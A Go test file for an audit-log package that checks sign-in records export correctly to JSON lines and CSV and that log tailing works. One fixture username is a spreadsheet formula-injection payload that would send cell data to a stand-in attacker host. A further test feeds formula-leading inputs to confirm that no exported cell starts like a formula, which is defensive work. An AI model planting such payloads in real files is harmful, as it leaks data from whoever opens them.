package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/idbridge/idbridge/audit"
	"github.com/idbridge/idbridge/authn"
)

var update = flag.Bool("update", false, "write the golden files anew")

var at = time.Date(2026, 11, 24, 12, 0, 0, 123456000, time.UTC)

func exported(t *testing.T) *memory {
	t.Helper()
	m := &memory{}
	l := newLog(t, m)
	for i, r := range []audit.Record{
		{ID: "too-old", Action: audit.SignIn},
		{
			ID: "0011", Action: audit.SignIn, Environment: "production", Username: "o'neil, \"José\"\n<b>", Provider: "corp",
			Subject: "8d2a-42", ITUser: "oneil", Kind: authn.OK.String(), Reason: "ok", Factors: "password,totp",
			Source: "192.0.2.7", Duration: 1500 * time.Microsecond,
		},
		{ID: "0012", Action: audit.SignIn, Username: `=HYPERLINK("http://evil.example/?"&A1)`, Kind: authn.BadCredentials.String()},
		{ID: "0013", Action: audit.UserChanged, Actor: "root", Detail: "@SUM(1)"},
	} {
		r.Time = at.Add(time.Duration(i-1) * time.Second)
		must(t, l.Event(t.Context(), r))
	}
	return m
}

func TestExportGolden(t *testing.T) {
	m := exported(t)
	for _, format := range []audit.Format{audit.JSONLines, audit.CSV} {
		var out bytes.Buffer
		if n, err := audit.Export(t.Context(), m, &out, format, at); err != nil || n != 3 {
			t.Errorf("%s: %d records, %v; want 3", format, n, err)
		}
		path := filepath.Join("testdata", "export."+string(format))
		if *update {
			must(t, os.MkdirAll("testdata", 0o755))
			must(t, os.WriteFile(path, out.Bytes(), 0o644))
		}
		want, err := os.ReadFile(path)
		must(t, err)
		if !bytes.Equal(out.Bytes(), want) {
			t.Errorf("%s: got\n%s\nwant\n%s", format, out.Bytes(), want)
		}
	}
	if _, err := audit.Export(t.Context(), m, &bytes.Buffer{}, "xml", at); err == nil {
		t.Error("format xml was taken")
	}
}

// Whatever was typed, no cell of the CSV begins like a formula; all that is quoted reads back otherwise unchanged.
func TestNoCellIsAFormula(t *testing.T) {
	for _, typed := range []string{"=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", " =1", "＝1", "|a", "%a"} {
		m := &memory{}
		must(t, newLog(t, m).Event(t.Context(), audit.Record{Time: at, Username: typed, Detail: typed}))
		var out bytes.Buffer
		_, err := audit.Export(t.Context(), m, &out, audit.CSV, time.Time{})
		must(t, err)
		lines, err := csv.NewReader(&out).ReadAll()
		must(t, err)
		for _, cell := range lines[1] {
			if cell != "" && bytes.ContainsAny([]byte(cell[:1]), "=+-@\t\r\n ") || len(cell) > 2 && cell[:3] == "＝" {
				t.Errorf("%q becomes the cell %q", typed, cell)
			}
		}
	}
}

// A writer that fails ends the export with its error.
func TestExportToABrokenPipe(t *testing.T) {
	m := exported(t)
	for _, format := range []audit.Format{audit.JSONLines, audit.CSV} {
		if _, err := audit.Export(t.Context(), m, broken{}, format, time.Time{}); !errors.Is(err, os.ErrClosed) {
			t.Errorf("%s: %v", format, err)
		}
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, os.ErrClosed }

func TestTail(t *testing.T) {
	m := exported(t)
	tail := func(n int) (ids []string) {
		must(t, audit.Tail(t.Context(), m, n, 0, func(r audit.Row) error {
			ids = append(ids, r.ID)
			return nil
		}))
		return ids
	}
	if got := tail(2); len(got) != 2 || got[0] != "0012" || got[1] != "0013" {
		t.Errorf("the last two: %v", got)
	}
	if got := tail(100); len(got) != 4 || got[0] != "too-old" {
		t.Errorf("more than there are: %v", got)
	}
	own := errors.New("own")
	if err := audit.Tail(t.Context(), m, 2, time.Second, func(audit.Row) error { return own }); !errors.Is(err, own) {
		t.Errorf("an error of show: %v", err)
	}
}

// Following hands out each record once, in order, also those that come while it looks, and ends well with its ctx.
func TestTailFollows(t *testing.T) {
	m := exported(t)
	l := newLog(t, m)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	var seen []int64
	must(t, audit.Tail(ctx, m, 1, time.Millisecond, func(r audit.Row) error {
		if seen = append(seen, r.Seq); r.Seq == 50 {
			cancel()
			return nil
		}
		return l.Event(ctx, audit.Record{Time: at})
	}))
	if len(seen) != 47 || seen[0] != 4 || seen[46] != 50 {
		t.Errorf("%v; want 4 to 50", seen)
	}
}
